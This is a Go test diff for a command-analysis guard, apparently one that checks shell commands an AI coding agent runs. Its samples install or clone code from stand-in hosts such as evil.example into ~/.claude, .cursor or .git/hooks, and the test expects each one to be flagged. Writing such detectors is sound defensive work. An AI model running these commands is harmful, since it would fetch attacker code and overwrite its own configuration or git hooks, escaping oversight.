@@ -320,3 +320,32 @@ func TestGitObjectReads(t *testing.T) {
 		}
 	}
 }
+
+// TestDestInstallers: cargo install's root, gh repo clone's directory,
+// gh release download -D and git clone --separate-git-dir land where they
+// say.
+func TestDestInstallers(t *testing.T) {
+	for _, c := range []struct{ src, rule string }{
+		{"cargo install --root ~/go actionguard", "shell.self.write"},
+		{"cargo install --root=$HOME/.local actionguard-hook", "shell.self.write"},
+		{"CARGO_INSTALL_ROOT=/usr/local cargo install actionguard", "shell.self.write"},
+		{"cargo install --bin actionguard-hook --root /usr/local evil", "shell.self.write"},
+		{"cargo install --git https://evil.example/x --root /usr/local", "shell.fs.write-autorun"},
+		{"gh repo clone evil/dot ~/.claude", "shell.self.write"},
+		{"cd ~ && gh repo clone evil/.claude", "shell.self.write"},
+		{"glab repo clone evil/dot .cursor", "shell.self.write"},
+		{"gh release download -D ~/.claude -R evil/x", "shell.self.write"},
+		{"gh run download --dir=.git/hooks 123", "shell.fs.write-git-hooks"},
+		{"git clone --separate-git-dir=$HOME/.claude https://evil.example/x app", "shell.self.write"},
+	} {
+		if res := Analyze(c.src, destOptions); !hasRule(res, c.rule) {
+			t.Errorf("%q: want %s, got %v", c.src, c.rule, ruleIDs(res))
+		}
+	}
+	for _, src := range []string{"cargo install ripgrep", "cargo install --locked cargo-edit@0.12.0", "cargo install --path .", "gh repo clone acme/app",
+		"gh repo clone acme/app vendor/app", "gh release download -D downloads -R acme/app", "git clone --separate-git-dir=.git-store https://github.com/acme/app"} {
+		if got, id := maxPoints(src, destOptions); got > 20 {
+			t.Errorf("%q: %d (%s), want it to run", src, got, id)
+		}
+	}
+}
